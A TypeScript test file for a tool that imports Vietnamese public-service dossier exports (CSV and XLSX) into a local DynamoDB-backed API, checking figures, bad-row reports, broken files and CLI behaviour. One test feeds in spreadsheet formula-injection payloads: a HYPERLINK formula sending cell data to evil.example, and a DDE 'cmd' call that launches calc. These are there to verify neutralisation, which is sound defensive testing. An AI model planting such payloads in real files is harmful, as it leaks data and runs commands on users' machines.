// npm run import's core (CONTRACT §9) through the local HTTP API over DynamoDB Local: the sample
// export gives the figures of the same dossiers sent as live events, a re-import or the live
// events after it change nothing, bad rows are reported with their row numbers and send nothing,
// and the XLSX and semicolon-with-BOM shapes of the export give the same result.
import { execFile } from 'node:child_process';
import { copyFileSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { promisify } from 'node:util';
import { join } from 'node:path';
import { ScanCommand } from '@aws-sdk/client-dynamodb';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { SAMPLE_EXPORT_FILE } from '#events/samples/export.ts';
import { SAMPLE_FILE } from '#events/samples/generate.ts';
import { csvCell, importExport } from '../../infra/local/import-client.ts';
import { postEvents } from '../../infra/local/replay-client.ts';
import { startTestApi, type TestApi } from '../support/local-api.ts';
import { writeSemicolonCsv, writeXlsx } from '../support/export-files.ts';

const SECRET = 'test-secret';
const TOKEN = 'test-token';
const PERIODS = ['2022-Q4', '2023-Q1', '2023-Q2', '2023-H1', '2023-Q3', '2023-9M', '2023-FY'];
let local: TestApi;
let api: TestApi['api'];
let dir: string;

beforeAll(async () => {
  local = await startTestApi('import', { staffToken: TOKEN, secret: SECRET });
  api = local.api;
  dir = mkdtempSync(join(tmpdir(), 'import-'));
});

afterAll(async () => {
  await local?.stop();
  rmSync(dir, { recursive: true, force: true });
});

/** The export copied to a scratch directory, so the refused-rows report lands there. */
function scratch(name: string, text?: string): string {
  const path = join(dir, name);
  if (text === undefined) copyFileSync(SAMPLE_EXPORT_FILE, path);
  else writeFileSync(path, text);
  return path;
}

const importInto = (agencyId: string, file: string) => importExport(file, { agencyId, url: api.url, secret: SECRET });

/** The summaries of the periods the sample spans, without the agency id. */
async function figures(agencyId: string): Promise<Record<string, unknown>> {
  const out: Record<string, unknown> = {};
  for (const periodId of PERIODS) {
    const response = await fetch(`${api.url}/v1/agencies/${agencyId}/periods/${periodId}/summary`, { headers: { authorization: `Bearer ${TOKEN}` } });
    expect(response.status).toBe(200);
    const { agencyId: _agency, ...summary } = (await response.json()) as Record<string, unknown>;
    out[periodId] = summary;
  }
  return out;
}

/** The sample stream's dossier events (the documents are not in a dossier export), as another agency's. */
async function sendLiveDossierEvents(agencyId: string): Promise<void> {
  const events = readFileSync(SAMPLE_FILE, 'utf8')
    .split('\n')
    .filter((line) => line.trim() !== '')
    .map((line) => JSON.parse(line) as { type: string; agencyId: string })
    .filter((e) => e.type.startsWith('dossier.'))
    .map((e) => ({ ...e, agencyId }));
  for (let i = 0; i < events.length; i += 500) expect((await postEvents(api.url, SECRET, events.slice(i, i + 500))).status).toBe(202);
}

async function storedItems(): Promise<number> {
  const { Count } = await local.dynamo.send(new ScanCommand({ TableName: local.tableName, Select: 'COUNT' }));
  return Count ?? 0;
}

describe('import of the sample export', () => {
  let live: Record<string, unknown>;

  it('gives the figures of the same dossiers sent as live events', async () => {
    await sendLiveDossierEvents('LIVE');
    live = await figures('LIVE');
    expect(live['2023-H1']).toMatchObject({ dossiers: { received: { total: 63, online: 52, carriedOver: 10, direct: 1, postal: 0 }, pending: { total: 4 } } });

    const summary = await importInto('IMP', scratch('export.csv'));
    expect(summary).toMatchObject({ rowsRead: 92, rowsImported: 92, events: 182, refusedByReason: {} });
    expect(await figures('IMP')).toEqual(live);
    // the refused-rows report beside the input holds its header only
    expect(readFileSync(join(dir, 'export.refused.csv'), 'utf8')).toBe('\uFEFFDòng,Mã hồ sơ,Mã lỗi,Lý do\r\n');
  }, 60_000);

  it('changes nothing when imported again, nor when the live events of the same dossiers follow it', async () => {
    const items = await storedItems();
    expect(await importInto('IMP', scratch('export.csv'))).toMatchObject({ rowsImported: 92, events: 182 });
    expect(await storedItems()).toBe(items);
    expect(await figures('IMP')).toEqual(live);

    await sendLiveDossierEvents('IMP');
    expect(await figures('IMP')).toEqual(live);
  }, 60_000);

  it('gives the same result from an XLSX and from a semicolon CSV with a BOM', async () => {
    const csv = readFileSync(SAMPLE_EXPORT_FILE, 'utf8');
    const xlsx = join(dir, 'export.xlsx');
    const semicolon = join(dir, 'export-semicolon.csv');
    await writeXlsx(csv, xlsx);
    await writeSemicolonCsv(csv, semicolon);
    expect(readFileSync(semicolon).subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    const fromCsv = await importExport(scratch('export.csv'), { agencyId: 'IMP', url: '', secret: SECRET, dryRun: true });
    for (const [agencyId, file] of [['XLSX', xlsx], ['SEMI', semicolon]] as const) {
      const summary = await importInto(agencyId, file);
      expect({ ...summary, refusedReport: '' }).toEqual({ ...fromCsv, refusedReport: '' });
      expect(await figures(agencyId)).toEqual(live);
    }
  }, 60_000);
});

describe('bad rows', () => {
  const header = 'Mã hồ sơ,Mã thủ tục,Tên thủ tục,Hình thức nộp,Ngày tiếp nhận,Ngày hẹn trả,Ngày có kết quả,Trạng thái';
  const rows = [
    'B-1,1.004503,Đăng ký công bố hợp chuẩn,Trực tuyến,01/03/2023 08:30,10/03/2023,05/03/2023 09:00,Đã giải quyết', // 2: good
    'B-2,1.004503,,Trực tiếp,01/03/2023 08:30,10/03/2023,,Hoàn thành', // 3: unknown status
    'B-3,1.004503,,Trực tuyến,31/02/2023 08:30,10/03/2023,,Đang xử lý', // 4: a date that isn't one
    'B-4,1.004503,,Trực tuyến,01/03/2023 08:30,10/03/2023,28/02/2023 17:00,Trả lại', // 5: closed before received
    ',1.004503,,Trực tuyến,01/03/2023 08:30,10/03/2023,,Đang xử lý', // 6: no dossier id
    'B-1,1.004503,,Trực tuyến,02/03/2023 08:30,10/03/2023,,Đang xử lý', // 7: dossier of row 2 again
    'B-7,1.004503,,Qua mạng,01/03/2023 08:30,10/03/2023,,Đang xử lý', // 8: unknown channel
    'B-8,1.004503,,Bưu chính,01/03/2023 08:30,10/03/2023,,Rút hồ sơ', // 9: withdrawn without a date
    'B-9,1.004503,,bưu chính,1/3/2023,10/3/2023 17:00,,đang xử lý', // 10: good (case, short dates)
  ];

  it('are reported with their row numbers and reasons, and nothing is sent for them', async () => {
    const file = scratch('bad.csv', [header, ...rows].join('\n') + '\n');
    const summary = await importInto('BAD', file);
    expect(summary).toMatchObject({
      rowsRead: 9,
      rowsImported: 2,
      events: 3,
      refusedByReason: { unknown_status: 1, bad_date: 1, closed_before_received: 1, missing_dossier_id: 1, duplicate_dossier_id: 1, unknown_channel: 1, missing_result_date: 1 },
    });
    const report = parse(readFileSync(join(dir, 'bad.refused.csv')), { bom: true }) as string[][];
    expect(report.map((cells) => cells.slice(0, 3).join(','))).toEqual([
      'Dòng,Mã hồ sơ,Mã lỗi',
      '3,B-2,unknown_status',
      '4,B-3,bad_date',
      '5,B-4,closed_before_received',
      '6,,missing_dossier_id',
      '7,B-1,duplicate_dossier_id',
      '8,B-7,unknown_channel',
      '9,B-8,missing_result_date',
    ]);
    expect(report[2]![3]).toBe('"Ngày tiếp nhận" không phải là ngày (dd/MM/yyyy hoặc dd/MM/yyyy HH:mm): "31/02/2023 08:30"');
    expect(report[5]![3]).toBe('"Mã hồ sơ" đã có ở dòng 2');

    const { Items } = await local.dynamo.send(new ScanCommand({ TableName: local.tableName, FilterExpression: 'begins_with(pk, :p)', ExpressionAttributeValues: { ':p': { S: 'AGENCY#BAD#DOSSIER#' } } }));
    expect(Items!.map((i) => i.pk!.S).sort()).toEqual(['AGENCY#BAD#DOSSIER#B-1', 'AGENCY#BAD#DOSSIER#B-9']);
    const h1 = (await figures('BAD'))['2023-H1'];
    expect(h1).toMatchObject({ dossiers: { received: { total: 2, online: 1, direct: 0, postal: 1 }, resolved: { early: 1 } } });
  }, 60_000);

  it('a header row without a required column stops the import before anything is read or sent', async () => {
    const file = scratch('no-status.csv', 'Mã hồ sơ,Mã thủ tục,Hình thức nộp,Ngày tiếp nhận,Ngày hẹn trả\nX-1,1,Trực tuyến,01/03/2023,10/03/2023\n');
    await expect(importInto('NOSTATUS', file)).rejects.toMatchObject({ code: 'validation_failed', details: [{ path: 'columns.closedAt' }, { path: 'columns.status' }] });
  });
});

/** Items stored for an agency's dossiers. */
async function dossierItems(agencyId: string): Promise<number> {
  const { Count } = await local.dynamo.send(
    new ScanCommand({ TableName: local.tableName, Select: 'COUNT', FilterExpression: 'begins_with(pk, :p)', ExpressionAttributeValues: { ':p': { S: `AGENCY#${agencyId}#` } } }),
  );
  return Count ?? 0;
}

const HEADER = 'Mã hồ sơ,Mã thủ tục,Tên thủ tục,Hình thức nộp,Ngày tiếp nhận,Ngày hẹn trả,Ngày có kết quả,Trạng thái';
const goodRow = (i: number) => `G-${i},1.004503,Đăng ký,Trực tuyến,01/03/2023 08:30,10/03/2023,05/03/2023 09:00,Đã giải quyết`;

describe('a file that breaks part-way', () => {
  it('a CSV of 1,200 good rows and a last one with an unclosed quote sends nothing, and says where it broke', async () => {
    const rows = Array.from({ length: 1_200 }, (_, i) => goodRow(i + 1));
    const file = scratch('broken.csv', [HEADER, ...rows, 'G-X,1.004503,"Đăng ký,Trực tuyến,01/03/2023 08:30,10/03/2023,,Đang xử lý'].join('\r\n') + '\r\n');
    const summary = await importInto('BROKEN', file);
    expect(summary).toMatchObject({ rowsRead: 1_200, unreadable: { line: 1_202, reason: 'dấu ngoặc kép mở mà không đóng (CSV_QUOTE_NOT_CLOSED)' }, refusedByReason: { unreadable_file: 1 } });
    expect(await dossierItems('BROKEN')).toBe(0);
    const report = parse(readFileSync(join(dir, 'broken.refused.csv')), { bom: true }) as string[][];
    expect(report.slice(1)).toEqual([['1202', '', 'unreadable_file', 'Tệp không đọc được từ dòng 1202: dấu ngoặc kép mở mà không đóng (CSV_QUOTE_NOT_CLOSED)']]);
  }, 60_000);

  it('a quote closed too early in the middle stops it the same way, before anything is sent', async () => {
    const rows = Array.from({ length: 600 }, (_, i) => goodRow(i + 1));
    rows.splice(300, 0, 'G-Q,1.004503,"Đăng ký" nhanh,Trực tuyến,01/03/2023 08:30,10/03/2023,,Đang xử lý');
    const summary = await importInto('BROKEN2', scratch('quote.csv', [HEADER, ...rows].join('\n') + '\n'));
    expect(summary.unreadable).toEqual({ line: 302, reason: 'sau dấu ngoặc kép đóng còn ký tự (CSV_INVALID_CLOSING_QUOTE)' });
    expect(await dossierItems('BROKEN2')).toBe(0);
  }, 60_000);

  it('a truncated XLSX sends nothing', async () => {
    const whole = join(dir, 'whole.xlsx');
    await writeXlsx(readFileSync(SAMPLE_EXPORT_FILE, 'utf8'), whole);
    const bytes = readFileSync(whole);
    const file = scratch('truncated.xlsx');
    writeFileSync(file, bytes.subarray(0, Math.floor(bytes.length * 0.6)));
    const summary = await importInto('BROKEN3', file);
    expect(summary.unreadable).toMatchObject({ line: expect.any(Number), reason: expect.stringMatching(/^tệp XLSX hỏng/) });
    expect(summary.refusedByReason).toEqual({ unreadable_file: 1 });
    expect(await dossierItems('BROKEN3')).toBe(0);
  }, 60_000);
});

describe('the refused-rows list opens in a spreadsheet as text, never as formulas', () => {
  const hostile = ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")', "+cmd|' /C calc'!A0", '@SUM(1+1)', '-2+3+cmd|calc', '\t=1+1', '\r=1+1', '＝1+1'];

  it('neutralises every cell that would start a formula, keeping its text after an apostrophe', async () => {
    const rows = hostile.map((id) => `${csvCell(id)},1.004503,,Trực tuyến,01/03/2023 08:30,10/03/2023,,Hoàn thành`);
    const file = scratch('formulas.csv', [HEADER, ...rows].join('\r\n') + '\r\n');
    const summary = await importInto('FORMULA', file);
    expect(summary).toMatchObject({ rowsRead: hostile.length, rowsImported: 0, refusedByReason: { unknown_status: hostile.length } });
    const text = readFileSync(join(dir, 'formulas.refused.csv'), 'utf8');
    const report = parse(text, { bom: true }) as string[][];
    expect(report.slice(1).map((cells) => cells[1])).toEqual(hostile.map((id) => `'${id}`));
    // What a spreadsheet sees: no cell of the file starts with a formula character.
    for (const cells of report) for (const cell of cells) expect(cell, cell).not.toMatch(/^[=+\-@\t\r＝＋－＠]/);
    expect(await dossierItems('FORMULA')).toBe(0);
  });
});

describe('npm run import', () => {
  /** The script as npm runs it; --dry-run starts no stack. */
  const run = (...args: string[]) =>
    promisify(execFile)(process.execPath, ['--import', 'tsx', 'infra/local/import.ts', ...args], { env: { ...process.env, LOG_LEVEL: 'error' } }).then(
      ({ stdout }) => ({ code: 0, stdout }),
      (error: { code: number; stdout: string; stderr: string }) => ({ code: error.code, stdout: error.stdout + error.stderr }),
    );

  it('checks a dry run, maps renamed headers with --columns, and exits 1 with refused rows, 2 without a column', async () => {
    const renamed = scratch('renamed.csv', readFileSync(SAMPLE_EXPORT_FILE, 'utf8').replace('Mã hồ sơ', 'Số hồ sơ') + 'X-1,1,,,,Fax,01/03/2023,10/03/2023,,Đang xử lý\r\n');
    const mapping = scratch('mapping.json', JSON.stringify({ dossierId: 'Số hồ sơ' }));
    const checked = await run('--agency', 'SKHCN', renamed, '--dry-run', '--columns', mapping);
    expect(checked.code).toBe(1);
    expect(checked.stdout).toContain('93 rows read, 92 imported, 182 events to send (dry run: nothing sent)');
    expect(checked.stdout).toContain('1 rows refused\n  unknown_channel: 1');
    expect(readFileSync(join(dir, 'renamed.refused.csv'), 'utf8')).toContain('94,X-1,unknown_channel');

    const unmapped = await run('--agency', 'SKHCN', renamed, '--dry-run');
    expect(unmapped).toMatchObject({ code: 2, stdout: expect.stringContaining('columns.dossierId: no column "Mã hồ sơ"') });
    expect(await run('--agency', 'SỞ KHCN', renamed, '--dry-run')).toMatchObject({ code: 2, stdout: expect.stringContaining('--agency: must be 1–64 characters') });
  }, 60_000);

  it('--help prints the usage and exits 0; an unknown option or a missing file exits 2 with the usage, never a stack trace', async () => {
    const help = await run('--help');
    expect(help.code).toBe(0);
    expect(help.stdout).toMatch(/^usage: npm run import -- --agency SKHCN FILE\.csv\|FILE\.xlsx/);
    expect(help.stdout).toContain('exit codes: 0 all imported');
    for (const [args, why] of [
      [['--agency', 'SKHCN', 'x.csv', '--sheet', '2'], "Unknown option '--sheet'"],
      [['x.csv'], '--agency: required'],
      [['--agency', 'SKHCN'], 'FILE: required'],
      [['--agency', 'SKHCN', join(dir, 'missing.csv'), '--dry-run'], 'missing.csv: cannot be read'],
      [['--agency'], "Option '--agency <value>' argument missing"],
    ] as const) {
      const answer = await run(...args);
      expect(answer, args.join(' ')).toMatchObject({ code: 2, stdout: expect.stringContaining(why) });
      expect(answer.stdout).toContain('usage: npm run import');
      expect(answer.stdout).not.toMatch(/\n\s+at /);
    }
  }, 60_000);

  it('a CSV that breaks part-way: the summary, the line in the refused list, exit 2', async () => {
    const file = scratch('broken-cli.csv', `${HEADER}\n${goodRow(1)}\nG-2,"1.004503\n`);
    const answer = await run('--agency', 'SKHCN', file, '--dry-run');
    expect(answer.code).toBe(2);
    expect(answer.stdout).toContain('1 rows read; nothing sent: the file cannot be read from line 3 on (dấu ngoặc kép mở mà không đóng (CSV_QUOTE_NOT_CLOSED)).');
    expect(answer.stdout).not.toMatch(/\n\s+at /);
    expect(readFileSync(join(dir, 'broken-cli.refused.csv'), 'utf8')).toContain('3,,unreadable_file');
  }, 60_000);
});
